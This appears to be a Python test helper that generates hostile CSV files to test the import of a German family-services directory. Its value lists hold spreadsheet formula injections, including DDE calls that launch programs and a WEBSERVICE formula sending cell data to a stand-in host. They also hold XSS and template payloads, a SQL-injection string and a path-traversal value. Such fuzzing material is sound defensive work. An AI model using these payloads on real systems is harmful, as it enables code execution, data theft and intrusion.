"""What makers of hostile files share: good rows to spoil, nasty cells, the register of makers."""

import csv
import io
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

TAKEN, REFUSED, ANY = "übernommen", "abgelehnt", "beides möglich"
HEADS = ["Angebot", "Anbieter", "Gebiet", "Alter ab", "Alter bis", "Arbeitsfelder", "Beginn", "Plätze", "Kurzbeschreibung"]  # fmt: skip
NAMES = (
    "Elterncafé",
    "Frühe Hilfen Ü3",
    "Kleiderkammer „Größe“",
    "Straßenfußball",
    "Hebammensprechstunde",
)
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+cmd|'x'!A1", "-2+3+cmd|' /C notepad'!A0", "=HYPERLINK(\"http://x.example\";\"hier\")",
    "\t=1+1", "\r=1+1", " =1+1", "=WEBSERVICE(\"http://x.example/\"&A1)", "+49 2303 27-0", "-", "- Punkt", "@handle", "＝1+1", "=", "==",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg xmlns='http://www.w3.org/2000/svg'><script/>",
    "javascript:alert(1)", "&lt;b&gt;", "{{ 7*7 }}", "{% load x %}", "<!-- -->", "]]>", "%3Cscript%3E", "' OR 1=1; --",
)  # fmt: skip
ODD = (
    "", " ", "\u202e\u202d", "\ufeff", '"', "'", "\u2028", "\x01", "\x0b", "\x7f", "\x85", "\u200b", "a\u0300" * 40, "\U0001f9d2" * 50,
    "NULL", "None", "nan", "inf", "1e400", "9" * 400, "0x10", "٣", "½", "TRUE", "#REF!", "#NV", ";", "|", "../../etc/passwd", "x" * 9_999,
    "x" * 10_001, "x" * 201, "unna;" * 300, "\udcff",
)  # fmt: skip
DAYS = ("01.02.03", "31.02.2011", "40179", "2011-13", "0000", "9999-99", "14.7.2011", "2011-07-14", "1.1.1", "32.12.2020", "07/2011", "Mai 2011", "2011-07-14T00:00:00", "99999")  # fmt: skip
NUMBERS = ("0,5", "1.5", "1.234", "1.234,5", "-0,75", "-1", "10000", "3 Jahre", "ab 3", "3-6", "1e3", "−1", "0,0,0", "12,", ",5", "+3", "1'000")  # fmt: skip
Row = list[Any]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file; ``rows`` counts what stands below its header, where that is known."""

    kind: str
    name: str
    content: bytes
    expected: str = ANY
    rows: int | None = None


Maker = Callable[[random.Random], Hostile]
MAKERS: dict[str, Maker] = {}


def hostile(make: Callable[[random.Random], tuple[Any, ...]]) -> Maker:
    """Registers a maker: it returns content, file name, and what is known of the outcome."""

    def made(rng: random.Random) -> Hostile:
        return Hostile(make.__name__, *_named(make(rng)))

    MAKERS[make.__name__] = made
    return made


def _named(parts: tuple[Any, ...]) -> tuple[Any, ...]:
    content, name, *known = parts
    return (name, content, *known)


def seeded(seed: int, number: int) -> Hostile:
    """The file of this number; every kind comes in turn."""
    rng = random.Random(f"{seed}/{number}")  # noqa: S311 -- repeatable
    return list(MAKERS.values())[number % len(MAKERS)](rng)


# ------------------------------------------------------------------------------------- good rows


def good_row(rng: random.Random, number: int) -> Row:
    low = rng.choice(["", "0", "0,5", "3", "-0,75"])
    high = rng.choice(["", "6", "10", "21"])
    provider = rng.choice(["Träger", "träger ", "Familienbüro", "Neuer Verein e. V."])
    return [
        f"{rng.choice(NAMES)} {number}", provider, rng.choice(["", "Unna", "koenigsborn"]), low, high,
        rng.choice(["", "bildung", "Jugendhilfe", "gesundheit;bildung"]), rng.choice(["", "2011", "07.2011", "14.07.2011"]),
        rng.choice(["", "12"]), rng.choice(["", "Für alle."]),
    ]  # fmt: skip


def good_table(rng: random.Random, most: int = 6) -> list[Row]:
    return [list(HEADS), *(good_row(rng, n) for n in range(1, rng.randint(2, most) + 1))]


def text_of(table: list[Row], delimiter: str = ";") -> str:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows(table)
    return text.getvalue()


def raw_of(table: list[Row]) -> bytes:
    return text_of(table).encode("utf-8", "surrogatepass")


def with_cells(
    rng: random.Random, values: tuple[str, ...], *, columns: tuple[int, ...] = ()
) -> list[Row]:
    """A good table in which some cells hold these values."""
    table = good_table(rng)
    for _ in range(rng.randint(1, 4)):
        row, column = rng.choice(table[1:]), rng.choice(columns or range(len(HEADS)))
        row[column] = rng.choice(values)
    return table
